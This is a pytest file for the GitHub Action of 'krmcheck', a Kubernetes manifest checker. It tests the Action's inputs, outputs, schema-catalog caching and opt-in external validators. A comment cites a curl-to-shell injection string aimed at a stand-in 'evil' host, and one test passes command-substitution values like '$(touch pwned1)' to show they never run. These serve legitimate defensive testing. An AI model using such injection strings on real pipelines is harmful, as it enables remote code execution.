"""The GitHub Action (action.yml): its interface, and its run step executed
with bash the way a runner executes it, against the example repositories.

The install step is not run: ``krmcheck`` on PATH is a shim that runs this
working tree with the current interpreter.
"""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml

from tests.test_fixtures import CLEAN, DEFECT_COUNT, DEFECTS, DEMO, REACHED_BY

PROJECT = Path(__file__).resolve().parent.parent
ACTION = yaml.safe_load((PROJECT / "action.yml").read_text())
STEPS = {step.get("id"): step for step in ACTION["runs"]["steps"]}
RUN_STEP = STEPS["krmcheck"]
# GitHub runs a composite step with `shell: bash` as this command.
BASH = ["bash", "--noprofile", "--norc", "-eo", "pipefail"]
_INPUT = re.compile(r"^\$\{\{\s*inputs\.([A-Za-z0-9_-]+)\s*\}\}$")

needs_bash = pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")


class StepRun(NamedTuple):
    status: int
    stdout: str
    outputs: str
    summary: str


def test_is_a_composite_action_with_the_documented_inputs() -> None:
    assert ACTION["runs"]["using"] == "composite"
    defaults = {name: spec.get("default") for name, spec in ACTION["inputs"].items()}
    assert defaults == {"paths": ".", "args": "", "fail-on": "", "junit": "", "sarif": "", "enable-exec": "false",
                        "schema-catalog": "auto"}


def test_outputs_come_from_the_run_step() -> None:
    assert ACTION["outputs"]["errors"]["value"] == "${{ steps.krmcheck.outputs.errors }}"
    assert ACTION["outputs"]["warnings"]["value"] == "${{ steps.krmcheck.outputs.warnings }}"


def test_installs_from_the_actions_own_checkout() -> None:
    assert '"$GITHUB_ACTION_PATH"' in STEPS["install"]["run"]


def test_no_expression_is_interpolated_into_a_script() -> None:
    # ${{ }} inside `run:` is pasted into the script text before bash sees
    # it: an input holding `"; curl evil | sh` would run. Inputs travel in env.
    for step in ACTION["runs"]["steps"]:
        assert "${{" not in step.get("run", ""), step.get("name")
        assert step.get("shell") == "bash" or "uses" in step, step.get("name")
    catalog = {name for name in ACTION["inputs"] if name == "schema-catalog"}
    assert set(input_env({}).values()) == {v for k, v in _defaults().items() if k not in catalog}


def _defaults() -> dict[str, str]:
    return {name: str(spec.get("default", "")) for name, spec in ACTION["inputs"].items()}


def input_env(inputs: dict[str, str]) -> dict[str, str]:
    """The run step's environment for these inputs (defaults for the rest),
    as the runner would evaluate its `env:` expressions."""
    values = {**_defaults(), **inputs}
    env = {}
    for name, expression in RUN_STEP["env"].items():
        m = _INPUT.match(str(expression))
        assert m, f"{name}: only plain input expressions are expected, got {expression!r}"
        env[name] = values[m.group(1)]
    return env


@pytest.fixture(scope="module")
def shim(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A directory whose `krmcheck` runs this working tree's CLI."""
    bin_dir = tmp_path_factory.mktemp("bin")
    script = bin_dir / "krmcheck"
    script.write_text(
        "#!/bin/sh\n"
        f"PYTHONPATH='{PROJECT}'${{PYTHONPATH:+:$PYTHONPATH}} exec '{sys.executable}' -m krmcheck \"$@\"\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return bin_dir


def run_step(workspace: Path, shim: Path, tmp_path: Path, **inputs: str) -> StepRun:
    outputs = tmp_path / "github_output"
    summary = tmp_path / "step_summary"
    # Earlier steps' lines must survive: the CLI appends.
    outputs.write_text("earlier=1\n")
    summary.write_text("earlier step\n")
    script = tmp_path / "step.sh"
    script.write_text(RUN_STEP["run"])
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_"))}
    env.update(input_env(inputs))
    env.update(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(outputs), GITHUB_STEP_SUMMARY=str(summary),
               GITHUB_WORKSPACE=str(workspace), PATH=f"{shim}{os.pathsep}{env.get('PATH', '')}")
    done = subprocess.run([*BASH, str(script)], cwd=workspace, env=env, capture_output=True,
                          text=True, timeout=300)
    return StepRun(done.returncode, done.stdout + done.stderr, outputs.read_text(), summary.read_text())


def copy(source: Path, tmp_path: Path) -> Path:
    target = tmp_path / "workspace"
    shutil.copytree(source, target)
    return target


def step_outputs(text: str) -> dict[str, Any]:
    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)


@needs_bash
def test_demo_fails_and_sets_outputs(tmp_path: Path, shim: Path) -> None:
    result = run_step(copy(DEMO, tmp_path), shim, tmp_path)
    assert result.status == 1, result.stdout
    outputs = step_outputs(result.outputs)
    assert outputs == {"earlier": "1", "errors": str(DEFECT_COUNT), "warnings": "0"}


@needs_bash
def test_demo_annotates_each_defect(tmp_path: Path, shim: Path) -> None:
    result = run_step(copy(DEMO, tmp_path), shim, tmp_path)
    annotations = [line for line in result.stdout.splitlines() if line.startswith("::error ")]
    assert len(annotations) == DEFECT_COUNT
    for path, line, col, _validator, _fragment in DEFECTS:
        wanted = f"::error file={path},line={line},col={col},"
        [mine] = [a for a in annotations if a.startswith(wanted)]
        roots = REACHED_BY[path]
        assert (f"({len(roots)} roots%3A " if len(roots) > 1 else f"({roots[0]})") in mine


@needs_bash
def test_demo_job_summary_lists_each_defect(tmp_path: Path, shim: Path) -> None:
    result = run_step(copy(DEMO, tmp_path), shim, tmp_path)
    assert result.summary.startswith("earlier step\n")
    added = result.summary[len("earlier step\n"):]
    assert "krmcheck" in added
    assert f"{DEFECT_COUNT} errors" in added
    for path, line, col, *_ in DEFECTS:
        assert f"{path}:{line}:{col}" in added


@needs_bash
def test_clean_passes(tmp_path: Path, shim: Path) -> None:
    result = run_step(copy(CLEAN, tmp_path), shim, tmp_path)
    assert result.status == 0, result.stdout
    assert step_outputs(result.outputs) == {"earlier": "1", "errors": "0", "warnings": "0"}
    assert "::error" not in result.stdout


@needs_bash
def test_fail_on_never_passes_but_still_counts(tmp_path: Path, shim: Path) -> None:
    result = run_step(copy(DEMO, tmp_path), shim, tmp_path, **{"fail-on": "never"})
    assert result.status == 0, result.stdout
    assert step_outputs(result.outputs)["errors"] == str(DEFECT_COUNT)


@needs_bash
def test_without_the_fail_on_input_the_configuration_decides(tmp_path: Path, shim: Path) -> None:
    workspace = copy(DEMO, tmp_path)
    with open(workspace / ".krmcheck.yaml", "a") as config:
        config.write("fail-on: never\n")
    assert run_step(workspace, shim, tmp_path).status == 0
    assert run_step(workspace, shim, tmp_path, **{"fail-on": "error"}).status == 1


@needs_bash
def test_args_are_passed_after_the_inputs(tmp_path: Path, shim: Path) -> None:
    # A later --fail-on wins with argparse, so args can override fail-on.
    result = run_step(copy(DEMO, tmp_path), shim, tmp_path, args="--strict  --fail-on never")
    assert result.status == 0, result.stdout


@needs_bash
def test_paths_split_on_blanks_and_new_lines(tmp_path: Path, shim: Path) -> None:
    paths = "apps/web/overlays/staging\n  apps/api/overlays/staging \n"
    result = run_step(copy(DEMO, tmp_path), shim, tmp_path, paths=paths)
    assert result.status == 1, result.stdout
    # web/staging has the images: defect, api/staging the base one.
    assert step_outputs(result.outputs)["errors"] == "2"


@needs_bash
def test_junit_and_sarif_inputs_write_reports(tmp_path: Path, shim: Path) -> None:
    workspace = copy(DEMO, tmp_path)
    result = run_step(workspace, shim, tmp_path, junit="krmcheck.xml", sarif="krmcheck.sarif")
    assert result.status == 1, result.stdout
    assert "<testsuites" in (workspace / "krmcheck.xml").read_text()
    assert '"version": "2.1.0"' in (workspace / "krmcheck.sarif").read_text()


@needs_bash
def test_inputs_cannot_inject_shell(tmp_path: Path, shim: Path) -> None:
    workspace = copy(CLEAN, tmp_path)
    hostile = '$(touch pwned1) `touch pwned2` "; touch pwned3; echo "'
    result = run_step(workspace, shim, tmp_path, paths=hostile, args="$(touch pwned4)",
                      junit="x; touch pwned5")
    assert not list(workspace.glob("pwned*")) and not list(tmp_path.glob("pwned*"))
    # The hostile words arrive as literal (missing) paths: a usage error.
    assert result.status == 2, result.stdout


# --- the schema catalog: pulled once, cached by the pinned commit ---------------------------------

CATALOG_STEP = STEPS["catalog"]


def catalog_step(workspace: Path, tmp_path: Path, choice: str) -> tuple[int, dict[str, Any], str]:
    outputs = tmp_path / "catalog_output"
    outputs.write_text("")
    script = tmp_path / "catalog.sh"
    script.write_text(CATALOG_STEP["run"])
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_"))}
    env.update(KRMCHECK_SCHEMA_CATALOG=choice, GITHUB_OUTPUT=str(outputs), XDG_CACHE_HOME=str(tmp_path / "cache"),
               PYTHONPATH=str(PROJECT), PATH=f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}")
    done = subprocess.run([*BASH, str(script)], cwd=workspace, env=env, capture_output=True, text=True, timeout=60)
    return done.returncode, step_outputs(outputs.read_text()), done.stdout + done.stderr


def _git_repository(path: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(text)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    subprocess.run(["git", "-C", str(path), "add", "-A"], check=True)
    return path


@needs_bash
@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_the_catalog_is_wanted_where_the_repository_holds_controller_objects(tmp_path: Path) -> None:
    from krmcheck.schemas.catalog import DEFAULT_REF

    flux = _git_repository(tmp_path / "flux", {"clusters/prod/apps.yaml": (
        "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: apps}\n")})
    plain = _git_repository(tmp_path / "plain", {"app/cm.yaml": "apiVersion: v1\nkind: ConfigMap\n"})
    code, out, _ = catalog_step(flux, tmp_path, "auto")
    assert code == 0 and out["pull"] == "true"
    assert out["key"] == f"krmcheck-schema-catalog-{DEFAULT_REF}"  # a new pin is a new cache entry
    assert out["dir"] == str(tmp_path / "cache" / "krmcheck" / "schemas" / "catalogs")  # where pull writes
    assert catalog_step(plain, tmp_path, "auto")[1]["pull"] == "false"
    assert catalog_step(plain, tmp_path, "on")[1]["pull"] == "true"
    assert catalog_step(flux, tmp_path, "off")[1]["pull"] == "false"
    code, _, said = catalog_step(flux, tmp_path, "sometimes")
    assert code == 2 and "schema-catalog must be auto, on or off" in said


def test_the_catalog_is_restored_pulled_on_a_miss_and_saved_before_the_check() -> None:
    order = [step.get("id") or step.get("name") for step in ACTION["runs"]["steps"]]
    assert order.index("catalog") < order.index("catalog-cache") < order.index("pull") < order.index("krmcheck")
    restore, save = STEPS["catalog-cache"], next(s for s in ACTION["runs"]["steps"] if "cache/save" in s.get("uses", ""))
    assert restore["uses"].startswith("actions/cache/restore@") and restore["with"] == save["with"]
    assert "cache-hit != 'true'" in STEPS["pull"]["if"] and STEPS["pull"]["run"] == "krmcheck schemas pull"


@needs_bash
@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_pulled_catalog_judges_the_controller_objects_in_the_run_step(tmp_path: Path, shim: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The catalog steps as the runner takes them on a cache miss: decide,
    pull, then the run step, whose Flux Kustomization is judged by the
    pulled schema (without it, the kind has none). The pull step's own
    command runs; a local copy of the catalog stands for GitHub."""
    import json

    from krmcheck.schemas.catalog import DEFAULT_SOURCE, default_name

    schema = {"type": "object", "properties": {"spec": {"type": "object", "properties": {
        "interval": {"type": "string"}}}}}
    source = _git_repository(tmp_path / "CRDs-catalog",
                             {"kustomize.toolkit.fluxcd.io/kustomization_v1.json": json.dumps(schema)})
    subprocess.run(["git", "-C", str(source), "-c", "user.name=t", "-c", "user.email=t@example.com",
                    "commit", "-q", "-m", "schemas"], check=True)
    workspace = _git_repository(tmp_path / "ws", {
        "clusters/prod/apps.yaml": ("apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\n"
                                    "metadata: {name: apps, namespace: flux-system}\nspec:\n  interval: 10\n"
                                    "  path: ./apps\n  sourceRef: {kind: GitRepository, name: flux-system}\n"),
        "apps/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\n"})
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    before = run_step(workspace, shim, tmp_path)
    assert "is not of type 'string'" not in before.stdout and "no schema for Kustomization" in before.stdout
    code, out, _ = catalog_step(workspace, tmp_path, "auto")
    assert code == 0 and out["pull"] == "true"
    # the pull step's command, with GitHub's catalog at this local path
    local = tmp_path / "pull-bin"
    local.mkdir()
    (local / "krmcheck").write_text(
        "#!/bin/sh\n"
        f'if [ "$*" = "schemas pull" ]; then set -- schemas pull \'{source}\' --ref HEAD '
        f"--name {default_name(DEFAULT_SOURCE)}; fi\n"
        f"PYTHONPATH='{PROJECT}' exec '{sys.executable}' -m krmcheck \"$@\"\n")
    (local / "krmcheck").chmod(0o755)
    script = tmp_path / "pull.sh"
    script.write_text(STEPS["pull"]["run"])
    env = {**os.environ, "PATH": f"{local}{os.pathsep}{os.environ.get('PATH', '')}"}
    pulled = subprocess.run([*BASH, str(script)], cwd=workspace, env=env, capture_output=True, text=True,
                            timeout=120)
    assert pulled.returncode == 0, pulled.stdout + pulled.stderr
    assert (Path(out["dir"]) / default_name(DEFAULT_SOURCE) / "kustomize.toolkit.fluxcd.io").is_dir()
    after = run_step(workspace, shim, tmp_path)
    assert after.status == 1
    assert re.search(r"clusters/prod/apps.yaml:5:\d+: error: spec.interval: 10 is not of type 'string'",
                     after.stdout), after.stdout


VALIDATED = PROJECT / "fixtures" / "validator-functions"


@needs_bash
def test_external_validators_run_only_when_the_enable_exec_input_says_so(tmp_path: Path, shim: Path) -> None:
    workspace = copy(VALIDATED, tmp_path)
    paths = "from-config"  # its .krmcheck.yaml names ../functions/check-team.py
    skipped = run_step(workspace, shim, tmp_path, paths=paths)
    assert skipped.status == 0, skipped.stdout
    assert "::warning file=from-config/.krmcheck.yaml,line=5,col=5," in skipped.stdout
    assert "was not run" in skipped.stdout and "team 'marketing'" not in skipped.stdout
    ran = run_step(workspace, shim, tmp_path, paths=paths, **{"enable-exec": "true"})
    assert ran.status == 1, ran.stdout
    assert "team 'marketing' is not one of: payments, search" in ran.stdout
    wrong = run_step(workspace, shim, tmp_path, paths=paths, **{"enable-exec": "yes"})
    assert wrong.status == 2 and "::error::enable-exec must be true or false, not 'yes'" in wrong.stdout
